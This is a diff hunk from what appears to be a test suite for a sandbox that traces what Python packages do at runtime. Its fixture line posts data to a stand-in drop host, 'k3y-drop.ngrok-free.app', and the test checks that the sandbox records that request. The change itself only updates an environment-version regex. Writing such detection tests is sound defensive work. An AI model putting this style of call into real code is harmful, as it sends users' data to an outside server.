@@ -366,7 +366,7 @@ requests.post('https://k3y-drop.ngrok-free.app/r', data={'k': 'v'})
       expect(load.stdout).toMatch(/^requests module \d+\.\d+/m)
       expect(load.stdout).toContain('probe StandInModule pth None')
       expect(run.runs[0]!.network).toContainEqual(expect.objectContaining({ kind: 'http', method: 'POST', host: 'k3y-drop.ngrok-free.app', path: '/r', body: 'k=v' }))
-      expect(run.environment).toMatch(/^python 3\.\d+\.\d+; setuptools \d.*, requests \d/)
+      expect(run.environment).toMatch(/^node \d+\.\d+\.\d+; python 3\.\d+\.\d+; setuptools \d.*, requests \d/)
       expect(dynamicFindings(run).trace.summary.environment).toBe(run.environment)
     } finally {
       rmSync(join(hostSite, `${probe}.py`), { force: true })
